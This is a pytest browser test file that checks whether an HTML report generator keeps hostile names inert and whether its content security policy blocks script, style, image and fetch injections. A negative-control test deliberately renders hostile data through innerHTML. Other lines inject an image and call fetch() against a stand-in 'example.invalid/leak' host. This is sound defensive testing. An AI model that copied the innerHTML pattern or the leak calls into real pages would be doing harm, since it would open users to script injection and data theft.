"""Names from outside stay names: nothing in a signature can become markup, script or style."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.reporting.conftest import Open, Opened
from tests.reporting.examples import HOSTILE, example, hostile

ELEMENTS = "script, style, link, meta, img, iframe, object, embed, base, form"
PARTS = f"[...document.querySelectorAll('{ELEMENTS}')].map((one) => one.tagName)"
ATTRIBUTES = (
    "[...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()).filter((name) "
    "=> name.startsWith('on'))"
)


def test_hostile_names_do_nothing(open_report: Open) -> None:
    harmless = open_report([example("a", [("b", 0), ("c", 0)])])
    expected = harmless.evaluate(PARTS)
    page = open_report(hostile())
    for details in page.locator("details").all():
        details.locator("summary").click()
    for box in page.locator(".pick input").all():
        if box.is_enabled():
            box.click()
    page.locator("#walk-site").focus()
    page.keyboard.press("ArrowRight")
    page.locator("#signature-chart svg.plot").hover(position={"x": 300, "y": 100})
    page.locator("#distance-chart .stage svg.plot").hover(position={"x": 60, "y": 60})
    page.locator("#network-table button").first.click()
    page.wait_for_timeout(100)
    assert page.evaluate("window.harmed") is None
    assert page.evaluate(PARTS) == expected
    assert page.evaluate(ATTRIBUTES) == []
    assert page.evaluate("document.querySelectorAll('h1').length") == 1


def test_hostile_names_are_shown_as_they_are(open_report: Open) -> None:
    networks = hostile()
    assert len(networks) == len(HOSTILE)
    page = open_report(networks)
    names = page.locator("#network-table tbody th").all_text_contents()
    assert names == [found.name or "(no name)" for found in networks]
    for number, found in enumerate(networks):
        page.locator(f"#sites-{number} summary").click()
        table = page.locator(f"#sites-{number} table").first
        table.wait_for()
        assert table.locator("tbody th").all_text_contents() == [site.name for site in found.sites]


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_the_same_names_do_harm_where_nothing_protects(
    text: str, open_file: Callable[..., Opened], tmp_path: Path
) -> None:
    """The negative control: data pasted into a page as it is, and set as markup."""
    path = tmp_path / "naive.html"
    data = f"<p id='name'></p><script type='application/json' id='data'>{json.dumps(text)}</script>"
    script = (
        "document.getElementById('name').innerHTML = "
        "JSON.parse(document.getElementById('data').textContent)"
    )
    path.write_text(f"<!doctype html>{data}<script>{script}</script>", encoding="utf-8")
    opened = open_file(path)
    opened.page.wait_for_function("window.harmed === 1")
    assert opened.requests or opened.messages


def test_the_policy_refuses_what_is_added_later(
    open_file: Callable[..., Opened], tmp_path: Path
) -> None:
    from sigmascope.reporting.page import report

    opened = open_file(report([example("a", [("b", 0), ("c", 0)])], tmp_path / "report.html"))
    add = """(tag) => {
      const made = document.createElement(tag);
      if (tag === "img") made.src = "https://example.invalid/leak";
      else if (tag === "style") made.textContent = "* { display: none }";
      document.body.append(made);
    }"""
    for tag in ("img", "style"):
        opened.page.evaluate(add, tag)
    with pytest.raises(Exception, match="TrustedHTML"):
        opened.page.evaluate("document.body.innerHTML = '<p>'")
    with pytest.raises(Exception, match="TrustedScript"):
        opened.page.evaluate(
            "Object.assign(document.createElement('script'), { textContent: 'window.harmed = 1' })"
        )
    with pytest.raises(Exception, match="Failed to fetch"):
        opened.page.evaluate("fetch('https://example.invalid/leak')")
    opened.page.wait_for_function("window.violations.length >= 3")
    assert opened.requests == []
    assert {"img-src", "style-src-elem", "connect-src"} <= set(
        opened.page.evaluate("window.violations")
    )
    assert opened.page.evaluate("window.harmed") is None
